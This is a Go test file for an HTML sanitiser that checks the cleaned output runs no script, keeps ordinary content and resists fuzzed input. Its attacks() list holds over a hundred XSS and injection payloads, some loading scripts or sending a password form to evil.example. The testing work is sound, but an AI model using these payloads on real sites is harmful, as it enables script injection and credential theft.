package clean_test

import (
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"golang.org/x/net/html"
	"golang.org/x/net/html/atom"
	"pgregory.net/rapid"

	"github.com/aisteam/aisteam/executor/blocks"
	"github.com/aisteam/aisteam/executor/clean"
)

// attacks are ways to make a page run something, or load, ask for or cover what its reader does not see.
func attacks() []string {
	return []string{
		`<script>alert(1)</script>`, `<script src=//evil.example/x.js></script>`, `<SCRIPT SRC="https://evil.example/x.js"></SCRIPT>`, `<script/x>alert(1)</script>`,
		`<scr<script>ipt>alert(1)</scr</script>ipt>`, `<<script>alert(1);//<</script>`, `<script >alert(1)</script >`, "<script\n>alert(1)</script>", `<script>alert(1)`,
		`</p><script>alert(1)</script><p>`, `<img src=x onerror=alert(1)>`, `<img src=x onerror = 'alert(1)'>`, `<img/src=x/onerror=alert(1)>`, "<img src=x\nonerror\n=\nalert(1)>",
		`<img src="x" OnErRoR="alert(1)">`, `<img src=x:alert(alt) onerror=eval(src) alt=0>`, `<img """><script>alert(1)</script>">`, `<img src="javascript:alert(1)">`, `<img src=data:text/html,<script>alert(1)</script>>`,
		`<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`, `<img srcset="javascript:alert(1) 1x, https://evil.example/x 2x">`, `<img src=x style="background:url(javascript:alert(1))">`,
		`<a href="javascript:alert(1)">x</a>`, `<a href="JaVaScRiPt:alert(1)">x</a>`, `<a href=" javascript:alert(1)">x</a>`, `<a href="java&#9;script:alert(1)">x</a>`, `<a href="java&#10;script:alert(1)">x</a>`,
		`<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>`, `<a href="&#x6A;avascript:alert(1)">x</a>`, `<a href="javascript&colon;alert(1)">x</a>`, "<a href=\"\x01javascript:alert(1)\">x</a>",
		`<a href="vbscript:msgbox(1)">x</a>`, `<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>`, `<a href="livescript:x">x</a>`, `<a href="feed:javascript:alert(1)">x</a>`, `<a href="blob:https://x/1">x</a>`,
		`<a href=# onclick=alert(1)>x</a>`, `<a onmouseover="alert(1)">x</a>`, `<a href="https://x.example" ping="https://evil.example">x</a>`, `<a style="position:fixed;inset:0" href="https://evil.example">x</a>`,
		`<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`, `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`, `<svg><animate onbegin=alert(1) attributeName=x dur=1s>`, `<svg><style><img src=x onerror=alert(1)></style></svg>`,
		`<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>`, `<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"></svg>`, `<svg></p><style><a title="</style><img src onerror=alert(1)>">`,
		`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`, `<math><mi xlink:href="javascript:alert(1)">x</mi></math>`, `<math href="javascript:alert(1)">x</math>`,
		`<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`, `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>`,
		`<textarea><img title="</textarea><img src onerror=alert(1)>"></textarea>`, `<title><img title="</title><img src onerror=alert(1)>"></title>`, `<xmp><p title="</xmp><svg/onload=alert(1)>">`, `<plaintext><img src=x onerror=alert(1)>`,
		`<template><script>alert(1)</script></template>`, `<select><style></select><img src=x onerror=alert(1)></style>`, `<iframe src="javascript:alert(1)"></iframe>`, `<iframe srcdoc="<script>alert(1)</script>"></iframe>`, `<IFRAME SRC=//evil.example>`,
		`<object data="data:text/html,<script>alert(1)</script>"></object>`, `<embed src="javascript:alert(1)">`, `<applet code=x></applet>`, `<frameset onload=alert(1)><frame src=//evil.example></frameset>`, `<portal src=//evil.example></portal>`,
		`<form action="javascript:alert(1)"><input type=submit></form>`, `<form action="https://evil.example"><input name=password type=password></form>`, `<button formaction="javascript:alert(1)">x</button>`, `<input autofocus onfocus=alert(1)>`,
		`<video><source onerror="alert(1)"></video>`, `<audio src=x onerror=alert(1)>`, `<video poster="javascript:alert(1)">`, `<details open ontoggle=alert(1)>x</details>`, `<marquee onstart=alert(1)>x</marquee>`, `<body onload=alert(1)>`, `<html onfocus=alert(1)>`,
		`<style>@import "https://evil.example/x.css";</style>`, `<p style="width:expression(alert(1))">x</p>`, `<div style="background-image:url(https://evil.example/t.png)">x</div>`, `<link rel=stylesheet href="https://evil.example/x.css">`, `<link rel=import href="data:text/html,x">`,
		`<meta http-equiv=refresh content="0;url=javascript:alert(1)">`, `<meta http-equiv="Set-Cookie" content="a=b">`, `<base href="https://evil.example/">`, `<isindex type=image src=1 onerror=alert(1)>`, `<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">x`,
		`<!--[if gte IE 4]><script>alert(1)</script><![endif]-->`, `<!--><img src=x onerror=alert(1)>-->`, `<!-- --!><img src=x onerror=alert(1)> -->`, `<![CDATA[<img src=x onerror=alert(1)>]]>`, `<?xml version="1.0"?><script>alert(1)</script>`, `<!DOCTYPE x [<!ENTITY y "z">]>`,
		`<x onclick=alert(1)>x</x>`, `<custom-element onclick=alert(1)>x</custom-element>`, `<p contenteditable onblur=alert(1)>x</p>`, `<p id=x tabindex=1 onfocus=alert(1)></p>`, "<p \x00onclick=alert(1)>x</p>", "<scr\x00ipt>alert(1)</scr\x00ipt>", `<p title="x" is="x-y" slot="z">x</p>`,
		`<area href="javascript:alert(1)" shape=default>`, `<map name=x><area href=javascript:alert(1)></map><img usemap=#x src=x>`, `<blockquote cite="javascript:alert(1)">x</blockquote>`, `<q cite="javascript:alert(1)">x</q>`, `<del cite="javascript:alert(1)">x</del>`,
		`<a href="//evil.example" target="_blank" rel="opener">x</a>`, `<dialog open>x</dialog>`, `<canvas onclick=alert(1)></canvas>`, `<keygen autofocus onfocus=alert(1)>`, `<menu id=x onshow=alert(1)>`, `&lt;script&gt;alert(1)&lt;/script&gt;<b>x</b>`,
	}
}

// runs finds what a browser would run, load as a frame, send or style in a fragment that stands in an element, "" for nothing.
func runs(t *testing.T, fragment string, within atom.Atom) string {
	t.Helper()
	nodes, err := html.ParseFragment(strings.NewReader(fragment), &html.Node{Type: html.ElementNode, Data: within.String(), DataAtom: within})
	if err != nil {
		t.Fatal(err)
	}
	for _, n := range nodes {
		if bad := runsIn(n); bad != "" {
			return bad
		}
	}
	return ""
}

const elements = " a abbr acronym area article aside b bdi bdo blockquote br caption cite code col colgroup dd del details dfn div dl dt em figcaption figure footer h1 h2 h3 h4 h5 h6 header hgroup hr i img ins li main map mark meter nav ol p pre progress q rp rt ruby s samp section small span strike strong sub summary sup table tbody td tfoot th thead time tr tt u ul var wbr "

const attributes = " href src alt title id class name dir lang width height align valign cite datetime open value type start colspan rowspan headers scope abbr summary span usemap shape coords min max low high optimum rel char charoff nowrap "

func runsIn(n *html.Node) string {
	switch n.Type {
	case html.ElementNode:
		if n.Namespace != "" || !strings.Contains(elements, " "+n.Data+" ") {
			return "<" + n.Namespace + n.Data + ">"
		}
		for _, a := range n.Attr {
			if !strings.Contains(attributes, " "+a.Key+" ") {
				return a.Key + "=" + a.Val
			}
			if a.Key == "href" || a.Key == "src" || a.Key == "cite" {
				scheme, _, has := strings.Cut(a.Val, ":")
				if has && !strings.ContainsAny(scheme, "/?#") && !strings.Contains(" http https mailto tel ", " "+strings.ToLower(scheme)+" ") {
					return a.Key + "=" + a.Val
				}
			}
		}
	case html.CommentNode:
		if kept := strings.TrimPrefix(n.Data, " /"); !strings.HasPrefix(strings.TrimPrefix(kept, " "), "wp:") || strings.ContainsAny(kept, "<>") || strings.Contains(kept, "script:") {
			return "a comment: " + n.Data
		}
	case html.DoctypeNode, html.DocumentNode, html.RawNode, html.ErrorNode:
		return "a comment or worse: " + n.Data
	case html.TextNode:
	}
	for c := n.FirstChild; c != nil; c = c.NextSibling {
		if bad := runsIn(c); bad != "" {
			return bad
		}
	}
	return ""
}

func check(t *testing.T, p *clean.Policy, fragment string) {
	t.Helper()
	got := p.HTML(fragment)
	for _, within := range []atom.Atom{atom.Body, atom.Div, atom.P, atom.Td, atom.Li} {
		if bad := runs(t, got, within); bad != "" {
			t.Errorf("%q is let through as %q: %s within <%s>", fragment, got, bad, within)
		}
	}
	if d := blocks.Parse(got); !d.Whole() {
		t.Errorf("%q becomes %q, whose blocks do not fit together: %s", fragment, got, d.Wrong)
	}
	if again := p.HTML(got); again != got {
		t.Errorf("%q is not clean after it was cleaned: %q becomes %q", fragment, got, again)
	}
}

func TestNothingThatRunsIsPublished(t *testing.T) {
	all := attacks()
	if len(all) < 60 {
		t.Fatalf("only %d attacks", len(all))
	}
	p := clean.New()
	for _, a := range all {
		check(t, p, a)
		check(t, p, `<p>Before `+a+` and after</p>`)
		check(t, p, `<ul><li><a href="https://x.example/`+a+`">`+a)
	}
}

// TestNothingThatRunsIsPutTogether cuts the attacks up and mixes them with what is let through.
func TestNothingThatRunsIsPutTogether(t *testing.T) {
	p := clean.New()
	pieces := append(attacks(), append(blockAttacks(), "<!-- wp:paragraph -->", "<!-- /wp:paragraph -->", `<!-- wp:group {"a":"b"} -->`, "<!-- /wp:group -->")...)
	pieces = append(pieces, "<p>", "</p>", "<table>", "<tr>", "</table>", "<b", ">", "<", "&lt;", "&#60;", `"`, "'", "--", "<!--", "-->", "]]>", "<a href='", "</a>", "<svg>", "<math>", "</script>", "\x00", "=", " ")
	rapid.Check(t, func(r *rapid.T) {
		var b strings.Builder
		for _, piece := range rapid.SliceOfN(rapid.SampledFrom(pieces), 1, 5).Draw(r, "pieces") {
			if rapid.Bool().Draw(r, "cut") {
				piece = piece[:rapid.IntRange(0, len(piece)).Draw(r, "at")]
			}
			b.WriteString(piece)
		}
		check(t, p, b.String())
	})
}

func TestWhatPeopleWriteStays(t *testing.T) {
	p := clean.New()
	for _, same := range []string{
		"", "Only words, \"quoted\" and 'quoted'.", "a < b", "<h1 class=\"wide\">Our services</h1>\n<p>We build \"pools\" [gallery ids=\"1,2\"] &amp; ponds.</p>",
		`<ul><li>One</li><li>Two</li></ul><p><a href="https://x.example/?a=1&amp;b=2">more</a> <a href="tel:+4930123">call</a> <a href="/contact">us</a></p>`,
		`<table><thead><tr><th>A</th></tr></thead><tbody><tr><td colspan="2">1</td></tr></tbody></table>`, `<img src="https://x.example/a.png" alt="A pool"><br><hr>`,
		`<section id="offer"><h2>Offer</h2><figure><img src="/a.png" alt=""><figcaption>x</figcaption></figure></section>`,
	} {
		want := same
		if same == "a < b" {
			want = "a &lt; b"
		}
		if d := cmp.Diff(want, p.HTML(same)); d != "" {
			t.Error(d)
		}
	}
}

func TestAFragmentChangesNothingAroundIt(t *testing.T) {
	p := clean.New()
	for fragment, want := range map[string]string{
		`<a href="https://evil.example/">x`: `<a href="https://evil.example/">x</a>`, `</div></section><p>x`: `<p>x</p>`, `<b><i>x</b>y`: `<b><i>x</i></b>y`,
		`<p>one<p>two`: `<p>one<p>two</p>`, `<ul><li>one<li>two`: `<ul><li>one<li>two</li></ul>`, `x</p>`: `x`, `<table><tr><td>x`: `<table><tr><td>x</td></tr></table>`,
	} {
		if got := p.HTML(fragment); got != want {
			t.Errorf("%q becomes %q, want %q", fragment, got, want)
		}
	}
}

func TestTextIsText(t *testing.T) {
	p := clean.New()
	for _, words := range append(attacks(), "[insert_php] x [/insert_php]", "a\n\nb\nc", `"&#34;`) {
		for _, got := range []string{clean.Text(words), clean.Paragraphs(words)} {
			bare := strings.NewReplacer("<p>", "", "</p>", "", "<br>", "").Replace(got)
			if strings.ContainsAny(bare, "<>[]") || p.HTML(got) != strings.ReplaceAll(strings.ReplaceAll(got, "&#91;", "["), "&#93;", "]") && !strings.Contains(words, "\x00") && !strings.Contains(words, "\x01") {
				t.Errorf("%q becomes %q", words, got)
			}
		}
		line := clean.Line(words)
		nodes, err := html.ParseFragment(strings.NewReader(line), &html.Node{Type: html.ElementNode, Data: "h1", DataAtom: atom.H1})
		if err != nil {
			t.Fatal(err)
		}
		for _, n := range nodes {
			if n.Type != html.TextNode {
				t.Errorf("the line %q of %q holds %q", line, words, n.Data)
			}
		}
	}
	for words, want := range map[string]string{
		"Q & A": "Q & A", "a < b": "a < b", "I <3 you": "I <3 you", "A <b>bold</b>  title": "A bold title", "Hi <script>alert(1)</script> you": "Hi you", "&lt;b&gt;": "&lt;b&gt;",
	} {
		if got := clean.Line(words); got != want {
			t.Errorf("%q becomes %q, want %q", words, got, want)
		}
	}
}

func TestWhatWasLeftOutIsSaid(t *testing.T) {
	p := clean.New()
	before := `<p onclick=x() style="a:b">Hi</p><script src="https://evil.example/x.js"></script><script>1</script><a href="javascript:alert(1)">x</a><iframe src=//f.example></iframe><!-- x --><a href="https://ok.example" onfocus=x()>y</a>`
	want := []string{
		"<a>", "a comment in the code", "a frame of //f.example", "a script", "a script of https://evil.example/x.js", "a style on <p>", "code on <p> (onclick)", "code on <a> (onfocus)", "the href of <a> to javascript:",
	}
	got := clean.LeftOut(before, p.HTML(before))
	for _, line := range want {
		found := false
		for _, g := range got {
			found = found || strings.Contains(g, line)
		}
		if !found {
			t.Errorf("%q is not said: %q", line, got)
		}
	}
	if got := clean.LeftOut("<p>x</p>", "<p>x</p>"); len(got) != 0 {
		t.Errorf("of nothing: %q", got)
	}
}

func TestALongFragmentIsCleanedInTime(t *testing.T) {
	p := clean.New()
	for _, fragment := range []string{strings.Repeat("<b>", 85_000) + strings.Repeat("</i>", 64_000), strings.Repeat("<p>x", 120_000), strings.Repeat("<i>", 100_000) + strings.Repeat("</i></b>", 30_000)} {
		began := time.Now()
		_ = p.HTML(fragment)
		if took := time.Since(began); took > 3*time.Second {
			t.Errorf("%.20s…: it takes %s", fragment, took)
		}
	}
}

// FuzzHTML cleans whatever comes.
func FuzzHTML(f *testing.F) {
	for _, a := range append(attacks(), append(blockAttacks(), inBlocks)...) {
		f.Add(a)
	}
	p := clean.New()
	f.Fuzz(func(t *testing.T, fragment string) {
		check(t, p, fragment)
		_ = clean.LeftOut(fragment, p.HTML(fragment))
	})
}
